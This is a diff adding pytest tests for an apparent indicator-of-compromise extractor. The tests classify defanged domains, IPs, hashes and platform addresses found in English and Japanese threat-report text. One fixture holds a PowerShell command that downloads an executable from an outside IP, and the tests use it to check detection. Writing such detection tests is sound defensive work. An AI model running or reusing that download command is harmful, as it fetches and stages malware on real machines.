@@ -366,3 +366,127 @@ def test_any_page_gives_rows_that_stand_on_it(text: str) -> None:
         assert bool(row.suppressed) or row.is_ioc
         assert len(row.evidence) <= 200 and "\n" not in row.evidence
     IOCS.arrow(table)
+
+
+LISTED = "Indicators of Compromise\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        LISTED + "- bank[.]test - legitimate site, used only as a connectivity check\n- c2.evil[.]test - C2\n",
+        LISTED + "| bank[.]test | 正規サイト |\n| c2.evil[.]test | C2 |\n",
+        LISTED + "- bank[.]test：悪性ではない\n- c2.evil[.]test：通信先\n",
+        LISTED + "- 正規サイト: bank[.]test\n- c2.evil[.]test\n",
+        "通信先一覧\n- bank[.]test（接続確認用）\n- c2.evil[.]test\n",
+        "The page imitates the legitimate site bank[.]test and sends data to c2.evil[.]test.",
+        "偽サイトc2.evil[.]testは、正規サイト bank[.]test を装う。",
+        "マルウェアは疎通確認のため bank[.]test に接続し、次に c2.evil[.]test に接続する。",
+    ],
+)
+def test_a_row_or_sentence_that_calls_its_value_legitimate_outweighs_the_heading(text: str) -> None:
+    table = rows(text)
+    assert (table["bank.test"].is_ioc, table["bank.test"].suppressed) == (False, "called_innocent")
+    assert table["c2.evil.test"].is_ioc
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        LISTED + "- c2.evil[.]test (legitimate site, compromised to host the loader)\n",
+        LISTED + "- c2.evil[.]test (legitimate-looking domain)\n",
+        LISTED + "- c2.evil[.]test（改ざんされた正規サイト）\n",
+        "正規サイトに見せかけた c2.evil[.]test に誘導する。",
+        "The decoy document was fetched from c2.evil[.]test.",
+    ],
+)
+def test_a_site_that_was_turned_or_only_looks_legitimate_is_an_indicator(text: str) -> None:
+    assert rows(text)["c2.evil.test"].is_ioc
+
+
+def test_addresses_of_platforms_are_suppressed_with_their_list_even_in_a_list_of_indicators() -> None:
+    table = rows(LISTED + "- 149[.]154[.]167[.]220\n- 20[.]190[.]159[.]23\n- 142[.]250[.]1[.]1\n- 45.83.12[.]9\n")
+    assert table["149.154.167.220"].suppressed == "platform_address:platform-telegram"
+    assert table["20.190.159.23"].suppressed.startswith("platform_address:")
+    assert table["142.250.1.1"].suppressed == "platform_address:platform-google"
+    assert table["45.83.12.9"].is_ioc
+
+
+@pytest.mark.parametrize(
+    ("text", "is_ioc"),
+    [
+        (f"Files\n\nGit-Update.Serial.msi | {SHA256}\n", True),
+        (f"The ransom was paid in transaction (txid) {SHA256} to them.", False),
+        (f"送金のトランザクションIDは {SHA256} である。", False),
+        (f"The payments\n\nトランザクションID\n- {SHA256}\n", False),
+        (f"built from git commit {SHA256[:40]} of it", False),
+    ],
+)
+def test_words_of_a_file_name_say_nothing_of_its_hash_and_a_payment_is_no_file(text: str, is_ioc: bool) -> None:
+    (row,) = (row for row in ledger([page(text)], {}, {}) if row.type in ("sha1", "sha256"))
+    assert row.is_ioc is is_ioc
+
+
+def test_a_live_url_in_a_command_that_fetches_it_is_an_indicator_and_one_in_a_sentence_is_not() -> None:
+    table = rows(
+        "The macro runs this:\n\npowershell -c \"(New-Object Net.WebClient).DownloadFile('http://45.83.12.9/a.exe',$p)\"\n\n"
+        "More in https://vendor.example/blog/macro of last week.\n"
+    )
+    assert table["http://45.83.12.9/a.exe"].is_ioc and "download_command" in names(table["http://45.83.12.9/a.exe"])
+    assert not table["https://vendor.example/blog/macro"].is_ioc
+
+
+def test_live_names_that_a_sentence_gives_to_the_attackers_and_tor_names_are_indicators() -> None:
+    onion = "w7d5g6qsj45ec2zqeml66imq27t3dgxxrt3koreuqhittp45736ozoid.onion"
+    table = rows(
+        f"The gang keeps two sites.\n\nChat: {onion}\n\nThe shops shopa7.test and shopb7.test are run by the attackers.\n"
+    )
+    assert table[onion].is_ioc and table["shopa7.test"].is_ioc and table["shopb7.test"].is_ioc
+
+
+def test_what_reports_do_not_collect_is_in_the_ledger_as_what_it_is_and_as_nothing_else() -> None:
+    md5 = MD5[:-1] + "0"
+    text = LISTED + (
+        f"- 45.83.12[.]0/24\n- 45.83.12[.]1 - 45.83.12[.]9\n- loader.exe {SHA256}\n- imphash: {md5}\n"
+        "- HKCU\\Software\\Midori\\Run\n- ops@evil-mail[.]test\n\nIt phishes (T1566.001).\n"
+    )
+    table = rows(text)
+    assert {value: (row.type, row.role) for value, row in table.items()} == {
+        "45.83.12.0/24": ("cidr", "attacker_infrastructure"),
+        "45.83.12.1-45.83.12.9": ("ip_range", "attacker_infrastructure"),
+        "loader.exe": ("file_name", "malware_sample"),
+        SHA256: ("sha256", "malware_sample"),
+        md5: ("imphash", "malware_sample"),
+        "HKCU\\Software\\Midori\\Run": ("registry_key", "malware_sample"),
+        "ops@evil-mail.test": ("email", "attacker_infrastructure"),
+        "T1566.001": ("attack_id", "reference"),
+    }
+    assert [row.value for row in table.values() if row.is_ioc] == [SHA256]
+    assert {row.suppressed for row in table.values() if not row.is_ioc} == {"not_collected"}
+    assert all(text[row.start : row.end] == row.raw for row in table.values())
+
+
+def test_live_values_in_a_row_behind_a_label_are_indicators_and_one_alone_may_be_anything() -> None:
+    table = rows("PaperHeron: shopa7.test shopb7.test 45.83.12.9 shopc7.test.\n\nMirador: shopd7.test\n")
+    assert [value for value, row in table.items() if row.is_ioc] == [
+        "shopa7.test",
+        "shopb7.test",
+        "45.83.12.9",
+        "shopc7.test",
+    ]
+    assert all(row.confidence < 0.65 for row in table.values())
+
+
+def test_a_platforms_own_name_is_suppressed_with_its_list_and_what_lies_at_a_path_of_it_is_for_the_article_to_say() -> (
+    None
+):
+    table = rows(
+        LISTED + "- login.microsoftonline[.]com\n- c2.evil[.]test\n- hxxps://docs.google[.]com/forms/d/1x/viewform\n"
+    )
+    assert table["login.microsoftonline.com"].suppressed.startswith("platform_name:microsoft")
+    assert table["c2.evil.test"].is_ioc and table["https://docs.google.com/forms/d/1x/viewform"].is_ioc
+
+
+def test_a_private_network_is_in_the_ledger_and_nobodys_indicator() -> None:
+    table = rows(LISTED + "- 10.0.0.0/8\n- 45.83.12.0/24\n")
+    assert (table["10.0.0.0/8"].suppressed, table["45.83.12.0/24"].suppressed) == ("private_address", "not_collected")
